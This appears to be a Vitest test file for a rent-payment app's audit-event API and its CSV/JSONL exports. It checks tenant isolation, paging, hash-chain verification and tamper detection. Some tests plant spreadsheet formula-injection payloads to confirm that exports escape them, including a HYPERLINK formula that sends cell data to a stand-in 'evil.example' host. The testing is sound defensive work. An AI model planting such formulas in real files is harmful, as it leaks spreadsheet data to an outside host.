// audit.events and audit.verify through the real tRPC route, and the exports under
// /api/export/ through their real route handler: who sees which events (landlord A never
// landlord B's; a renter only theirs; an operator all), the filters and keyset pages, the
// files' content and authorization, every exported row linking to the one before it, and
// verify on an intact chain and on one tampered with as the owner role.
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GET as exportGet } from '@/app/api/export/[file]/route';
import { db } from '@/server/db';
import { createApiToken } from '@/server/domain/api-tokens';
import { eventPageSql } from '@/server/domain/audit';
import { ChainFollower } from '@/server/domain/events';
import { createPayment } from '@/server/domain/payments';
import { settlePayment, submitPayment } from '@/server/domain/settlement';
import { resetEnvForTests } from '@/server/env';
import { apiAs, codeOf, errorOf, createUser, sessionCookie, type ApiClient, type TestUser } from '@/server/testing/api';
import { asOwner } from '@/server/testing/database';
import { testTempDir } from '@/server/testing/temp-dir';
import { historyMismatches } from '@/server/testing/history';
import { payingRenter, type PayingRenter } from '@/server/testing/payments';
import { parseCsv } from '@/scripts/lib/csv-records';
import { verifyExportFile } from '@/scripts/verify-export';
import { formulaSafe, formulaUnescape } from '@/server/export/formula';

let a: PayingRenter;
let b: PayingRenter;
let operator: TestUser;
let operatorApi: ApiClient;
let paymentA: { id: string };

beforeAll(async () => {
  operator = await createUser('LANDLORD', { email: `auditor-${Date.now()}@example.com` });
  process.env.OPERATOR_EMAILS = operator.email;
  resetEnvForTests();
  a = await payingRenter();
  b = await payingRenter();
  operatorApi = await apiAs(operator);
  const created = await createPayment(db, { id: a.renter.id, role: 'RENTER' }, { installmentId: a.lease.installments[0]!.id, fromAccountId: a.from.id, rail: 'RTP' }, null);
  await db.$transaction((tx) => submitPayment(tx, created.result.id));
  await db.$transaction((tx) => settlePayment(tx, created.result.id, { ok: true }));
  paymentA = created.result;
});

afterAll(async () => {
  expect((await historyMismatches()).mismatches).toEqual([]);
});

/** Every page of audit.events for this client and filter, following nextCursor. */
async function allEvents(api: ApiClient, filter: Parameters<ApiClient['audit']['events']['query']>[0] = {}) {
  const events = [];
  let cursor: string | null = null;
  do {
    const page: Awaited<ReturnType<ApiClient['audit']['events']['query']>> = await api.audit.events.query({ ...filter, cursor, limit: 7 });
    events.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor);
  return events;
}

const aggregatesOf = (events: { aggregateType: string; aggregateId: string }[]) => new Set(events.map((event) => `${event.aggregateType}:${event.aggregateId}`));

describe('audit.events', () => {
  it('shows a landlord their own user, accounts, property, lease, installments and the payments to them — never another landlord’s', async () => {
    const events = await allEvents(a.landlordApi);
    const seen = aggregatesOf(events);
    expect(seen).toContain(`User:${a.landlord.id}`);
    expect(seen).toContain(`Lease:${a.lease.id}`);
    expect(seen).toContain(`Property:${a.lease.property.id}`);
    expect(seen).toContain(`Installment:${a.lease.installments[0]!.id}`);
    expect(seen).toContain(`Payment:${paymentA.id}`);
    expect(events.map((event) => event.type)).toEqual(expect.arrayContaining(['user.signedUp', 'bankAccount.created', 'property.created', 'lease.created', 'lease.accepted', 'installment.scheduled', 'payment.completed']));
    // Nothing of landlord B's, nor of the renter's own user or bank accounts.
    for (const key of seen) {
      expect(key).not.toContain(b.landlord.id);
      expect(key).not.toContain(b.lease.id);
      expect(key).not.toContain(a.renter.id);
      expect(key).not.toContain(a.from.id);
    }
    const ids = events.map((event) => BigInt(event.id));
    expect(ids).toEqual([...ids].sort((x, y) => (x > y ? -1 : x < y ? 1 : 0)));
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('shows a renter their user, accounts, lease, its installments and their payments, not the landlord’s property or accounts', async () => {
    const seen = aggregatesOf(await allEvents(a.renterApi));
    expect(seen).toContain(`User:${a.renter.id}`);
    expect(seen).toContain(`BankAccount:${a.from.id}`);
    expect(seen).toContain(`Lease:${a.lease.id}`);
    expect(seen).toContain(`Payment:${paymentA.id}`);
    expect(seen).not.toContain(`Property:${a.lease.property.id}`);
    expect(seen).not.toContain(`User:${a.landlord.id}`);
    expect(seen).not.toContain(`Lease:${b.lease.id}`);
    expect(await a.renterApi.audit.events.query({ aggregateType: 'Lease', aggregateId: b.lease.id })).toEqual({ items: [], nextCursor: null });
  });

  it('shows an operator every event', async () => {
    const seen = aggregatesOf(await allEvents(operatorApi, { aggregateType: 'Lease' }));
    expect(seen).toContain(`Lease:${a.lease.id}`);
    expect(seen).toContain(`Lease:${b.lease.id}`);
    const total = await db.event.count();
    expect((await allEvents(operatorApi, { order: 'asc' })).length).toBe(total);
  });

  it('reads the same pages aggregate by aggregate as by walking the primary key (the two ways a page is read)', async () => {
    for (const user of [a.landlord, a.renter, b.landlord]) {
      const actor = { id: user.id, role: user.role, operator: false };
      for (const filter of [{}, { aggregateType: 'Payment' as const }, { type: 'installment.scheduled' }, { actorId: a.renter.id }]) {
        for (const order of ['asc', 'desc'] as const) {
          const read = async (strategy: 'probe' | 'scan', cursor?: bigint) =>
            (await db.$queryRaw<{ id: bigint }[]>(eventPageSql(actor, filter, { limit: 5, order, strategy, cursor }))).map((row) => row.id);
          const probed = await read('probe');
          expect(probed).toEqual(await read('scan'));
          if (probed.length === 5) expect(await read('probe', probed[4])).toEqual(await read('scan', probed[4]));
        }
      }
    }
  });

  it('filters by aggregate, type, actor and time, oldest first on request', async () => {
    const lease = await a.landlordApi.audit.events.query({ aggregateType: 'Lease', aggregateId: a.lease.id, order: 'asc' });
    expect(lease.items.map((event) => [event.sequence, event.type])).toEqual([
      [1, 'lease.created'],
      [2, 'lease.accepted'],
    ]);
    const completed = await allEvents(a.landlordApi, { type: 'payment.completed' });
    expect(completed.map((event) => event.aggregateId)).toEqual([paymentA.id]);
    const byRenter = await allEvents(a.landlordApi, { actorId: a.renter.id });
    expect(byRenter.length).toBeGreaterThan(0);
    expect(byRenter.every((event) => event.actor.id === a.renter.id)).toBe(true);
    const accepted = lease.items[1]!;
    const window = await allEvents(a.landlordApi, { aggregateType: 'Lease', from: accepted.createdAt, to: accepted.createdAt });
    expect(window.map((event) => event.id)).toContain(accepted.id);
    expect(window.every((event) => event.createdAt.getTime() === accepted.createdAt.getTime())).toBe(true);
    expect(await codeOf(a.landlordApi.audit.events.query({ aggregateType: 'Nope' as never }))).toBe('BAD_REQUEST');
    expect(await codeOf(a.landlordApi.audit.events.query({ cursor: 'abc' }))).toBe('BAD_REQUEST');
    expect(await codeOf((await apiAs(null)).audit.events.query({}))).toBe('UNAUTHORIZED');
  });
});

// ---- exports ---------------------------------------------------------------------------

async function download(path: string, headers: Record<string, string> = {}) {
  const request = new Request(`http://localhost:3000/api/export/${path}`, { headers });
  const file = path.split('?')[0]!;
  return exportGet(request, { params: Promise.resolve({ file }) });
}

const cookieOf = async (user: TestUser) => ({ cookie: await sessionCookie(user) });

describe('/api/export/events.csv and events.jsonl', () => {
  it('streams the caller’s events with their hashes; every chain in the file links and verifies offline', async () => {
    const response = await download('events.csv', await cookieOf(a.landlord));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="events-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('x-request-id')).toBeTruthy();
    const csv = await response.text();
    const rows = await parseCsv(csv);
    const viaApi = await allEvents(a.landlordApi, { order: 'asc' });
    expect(rows.map((row) => row.id)).toEqual(viaApi.map((event) => event.id));
    const follower = new ChainFollower();
    for (const row of rows) {
      follower.add({
        aggregateType: row.aggregateType!,
        aggregateId: row.aggregateId!,
        sequence: Number(row.sequence),
        type: row.type!,
        actorId: row.actorId || null,
        actorRole: row.actorRole!,
        reason: formulaUnescape(row.reason!) || null,
        data: JSON.parse(row.data!),
        createdAt: new Date(row.createdAt!),
        prevHash: row.prevHash || null,
        hash: row.hash!,
      });
    }
    expect(follower.broken).toEqual([]);
    expect(follower.events).toBe(rows.length);
    expect(rows.some((row) => row.aggregateId === b.lease.id)).toBe(false);

    // The auditor's offline check (scripts/verify-export.ts) on the file as downloaded, and on a copy with one amount changed.
    const dir = testTempDir('directpay-export-');
    const file = path.join(dir, 'events.csv');
    await writeFile(file, csv);
    expect(await verifyExportFile(file, () => undefined)).toMatchObject({ events: rows.length, broken: [] });
    const tampered = path.join(dir, 'tampered.csv');
    const original = await readFile(file, 'utf8');
    expect(original).toContain('""amountCents"":150000');
    await writeFile(tampered, original.replace('""amountCents"":150000', '""amountCents"":15000'));
    const lines: string[] = [];
    const result = await verifyExportFile(tampered, (line) => lines.push(line));
    expect(result.broken).toHaveLength(1);
    expect(result.broken[0]).toMatchObject({ reason: 'content does not match its hash (the row was altered)' });
    expect(lines.at(-1)).toMatch(/1 broken$/);
  });

  it('a renter’s formula in a reason reaches the landlord’s events.csv escaped, and the file still verifies offline (found attacking the API)', async () => {
    const c = await payingRenter();
    const reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'already quoted"];
    for (const [index, reason] of reasons.entries()) {
      const payment = await c.renterApi.payment.create.mutate({ installmentId: c.lease.installments[index]!.id, fromAccountId: c.from.id, rail: 'STANDARD_ACH' });
      await c.renterApi.payment.cancel.mutate({ id: payment.id, reason });
    }
    const csv = await (await download('events.csv?aggregateType=Payment', await cookieOf(c.landlord))).text();
    const cells = (await parseCsv(csv)).filter((row) => row.type === 'payment.cancelled').map((row) => row.reason);
    expect(cells).toEqual(reasons.map((reason) => `'${reason}`));
    const dir = testTempDir('directpay-export-');
    await writeFile(path.join(dir, 'events.csv'), csv);
    expect(await verifyExportFile(path.join(dir, 'events.csv'), () => undefined)).toMatchObject({ events: 4, chains: 2, broken: [], unsafe: [] });
    // The escape removed, the chain still holds but the cell would run: the verifier says so (exit 1).
    await writeFile(path.join(dir, 'unescaped.csv'), csv.replace(`"'=HYPERLINK`, '"=HYPERLINK'));
    const lines: string[] = [];
    const unescaped = await verifyExportFile(path.join(dir, 'unescaped.csv'), (line) => lines.push(line));
    expect(unescaped).toMatchObject({ broken: [], unsafe: [{ column: 'reason' }] });
    expect(lines.at(-1)).toMatch(/1 unsafe cell$/);
  });

  it('answers the same events as JSON lines, filtered like audit.events, to an API token too', async () => {
    const { token } = await db.$transaction((tx) => createApiToken(tx, { id: a.renter.id, role: 'RENTER' }, { name: 'auditor', scope: 'READ', expiresInDays: 90 }));
    const response = await download(`events.jsonl?aggregateType=Payment&aggregateId=${paymentA.id}`, { authorization: `Bearer ${token}` });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const lines = (await response.text()).trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(lines.map((line) => [line.sequence, line.type])).toEqual([
      [1, 'payment.created'],
      [2, 'payment.submitted'],
      [3, 'payment.completed'],
    ]);
    expect(lines[0].prevHash).toBeNull();
    expect(lines[1].prevHash).toBe(lines[0].hash);
    expect(lines[2].prevHash).toBe(lines[1].hash);
    expect(lines[0].data).toMatchObject({ id: paymentA.id, status: 'PENDING' });
  });

  it('refuses anonymous callers (401) and bad filters (400), and shows nobody else’s events', async () => {
    expect((await download('events.csv')).status).toBe(401);
    const bad = await download('events.csv?aggregateType=Nope&from=yesterday', await cookieOf(a.landlord));
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.fieldErrors).toMatchObject({ aggregateType: expect.any(Array), from: expect.any(Array) });
    // Found attacking the API: an unknown key answered `fieldErrors: {}`, a repeated key and a period ending before it starts a 200.
    const unknown = await download('events.csv?unknown=1', await cookieOf(a.landlord));
    expect(unknown.status).toBe(400);
    expect((await unknown.json()).error.fieldErrors).toEqual({ unknown: ['is not a known field'] });
    const twice = await download('payments.csv?from=2026-11-30T00:00:00Z&from=2026-11-29T00:00:00Z', await cookieOf(a.landlord));
    expect([twice.status, (await twice.json()).error.fieldErrors]).toEqual([400, { from: ['give it once'] }]);
    for (const file of ['events.csv', 'payments.csv']) {
      const backwards = await download(`${file}?from=2026-01-01T00:00:00Z&to=2025-01-01T00:00:00Z`, await cookieOf(a.landlord));
      expect([file, backwards.status, (await backwards.json()).error.fieldErrors]).toEqual([file, 400, { from: ['must be on or before the end of the period (to)'] }]);
    }
    const backwards = await errorOf(a.landlordApi.audit.events.query({ from: new Date('2026-01-01T00:00:00Z'), to: new Date('2025-01-01T00:00:00Z') }));
    expect(backwards.data?.fieldErrors).toEqual({ from: ['must be on or before the end of the period (to)'] });
    expect((await download('nothing.csv', await cookieOf(a.landlord))).status).toBe(404);
    const foreign = await download(`events.csv?aggregateType=Lease&aggregateId=${b.lease.id}`, await cookieOf(a.landlord));
    expect(await parseCsv(await foreign.text())).toEqual([]);
  });
});

describe('/api/export/payments.csv, ledger.csv and statement.csv', () => {
  it('exports a landlord’s payments with dollars and cents, nobody else’s', async () => {
    const rows = await parseCsv(await (await download('payments.csv', await cookieOf(a.landlord))).text());
    expect(rows).toEqual([
      expect.objectContaining({ paymentId: paymentA.id, status: 'COMPLETED', rail: 'RTP', amount: '1500.00', amountCents: '150000', fee: '1.50', feeCents: '150', installmentNumber: '1' }),
    ]);
    expect(await parseCsv(await (await download('payments.csv', await cookieOf(b.landlord))).text())).toEqual([]);
    const past = await parseCsv(await (await download('payments.csv?to=2000-01-01T00:00:00Z', await cookieOf(a.landlord))).text());
    expect(past).toEqual([]);
  });

  it('exports the lease’s ledger entries (landlord or renter) and the renter’s statement with a running balance; 404 for anyone else', async () => {
    const ledger = await parseCsv(await (await download(`ledger.csv?leaseId=${a.lease.id}`, await cookieOf(a.landlord))).text());
    expect(ledger.length).toBeGreaterThanOrEqual(4);
    const sums = new Map<string, number>();
    for (const entry of ledger) sums.set(entry.transactionId!, (sums.get(entry.transactionId!) ?? 0) + Number(entry.amountCents));
    expect([...sums.values()].every((sum) => sum === 0)).toBe(true);
    expect(ledger.map((entry) => entry.kind)).toEqual(expect.arrayContaining(['PAYMENT_SUBMITTED', 'PAYMENT_SETTLED', 'FEE']));
    expect((await download(`ledger.csv?leaseId=${a.lease.id}`, await cookieOf(a.renter))).status).toBe(200);
    expect((await download(`ledger.csv?leaseId=${a.lease.id}`, await cookieOf(b.landlord))).status).toBe(404);

    const statement = await parseCsv(await (await download(`statement.csv?leaseId=${a.lease.id}`, await cookieOf(a.renter))).text());
    expect(statement).toEqual([expect.objectContaining({ description: 'Payment', amount: '-1500.00', amountCents: '-150000', balance: '-1500.00', balanceCents: '-150000', installmentNumber: '1' })]);
    expect((await download(`statement.csv?leaseId=${a.lease.id}`, await cookieOf(b.renter))).status).toBe(404);
    expect((await download('statement.csv?leaseId=not-an-id', await cookieOf(a.renter))).status).toBe(400);
  });

  it('escapes text a spreadsheet would run as a formula, not negative amounts; an unknown or inherited file name is a 404, a cursor past 64 bits a 400', async () => {
    const texts = ['=HYPERLINK("http://x")', '+1 cmd', '@SUM(A1)', '-x', '\tx', '-1500.00', '12.5', 'Maple Court', "'quoted", "''=1"];
    expect(texts.map(formulaSafe)).toEqual([
      `'=HYPERLINK("http://x")`, "'+1 cmd", "'@SUM(A1)", "'-x", "'\tx", '-1500.00', '12.5', 'Maple Court', "''quoted", "'''=1",
    ]);
    expect(texts.map(formulaSafe).map(formulaUnescape)).toEqual(texts);
    for (const name of ['constructor', '__proto__', 'toString', 'nope.csv']) expect([name, (await download(name, await cookieOf(a.landlord))).status]).toEqual([name, 404]);
    expect((await download('events.csv?cursor=9999999999999999999', await cookieOf(a.landlord))).status).toBe(400);
    expect(await codeOf(a.landlordApi.audit.events.query({ cursor: '9223372036854775808' }))).toBe('BAD_REQUEST');
  });
});

// ---- verify ------------------------------------------------------------------------------

describe('audit.verify', () => {
  it('reports every visible chain intact, or one aggregate’s', async () => {
    const all = await a.landlordApi.audit.verify.query();
    expect(all).toMatchObject({ ok: true, broken: [] });
    expect(all.chains).toBe(aggregatesOf(await allEvents(a.landlordApi)).size);
    expect(await a.renterApi.audit.verify.query({ aggregateType: 'Payment', aggregateId: paymentA.id })).toEqual({ chains: 1, events: 3, ok: true, broken: [] });
    expect(await b.renterApi.audit.verify.query({ aggregateType: 'Payment', aggregateId: paymentA.id })).toEqual({ chains: 0, events: 0, ok: true, broken: [] });
  });

  it('finds a chain tampered with as the owner role: the aggregate, its first bad sequence and why — for those who can see it', async () => {
    // The app's role cannot do this (no UPDATE on "Event", no DISABLE TRIGGER); the owner can.
    const setAmount = (cents: string) =>
      asOwner([[`UPDATE "Event" SET data = jsonb_set(data, '{amountCents}', $2::jsonb) WHERE "aggregateType" = 'Payment' AND "aggregateId" = $1 AND sequence = 2`, [paymentA.id, cents]]], {
        without: [['Event', 'USER']],
      });
    await setAmount('1');
    const expected = { aggregateType: 'Payment', aggregateId: paymentA.id, sequence: 2, reason: 'content does not match its hash (the row was altered)' };
    expect(await a.landlordApi.audit.verify.query()).toMatchObject({ ok: false, broken: [expected] });
    expect(await a.renterApi.audit.verify.query({ aggregateType: 'Payment', aggregateId: paymentA.id })).toMatchObject({ ok: false, broken: [expected] });
    expect(await operatorApi.audit.verify.query()).toMatchObject({ ok: false, broken: [expected] });
    expect(await b.landlordApi.audit.verify.query()).toMatchObject({ ok: true, broken: [] });
    const mismatches = (await historyMismatches()).mismatches;
    expect(mismatches).toEqual([`Payment ${paymentA.id}: chain broken at 2 (content does not match its hash (the row was altered))`]);
    // Put it back so the file's closing history check sees the intact database.
    await setAmount('150000');
    expect(await operatorApi.audit.verify.query()).toMatchObject({ ok: true });
  });
});
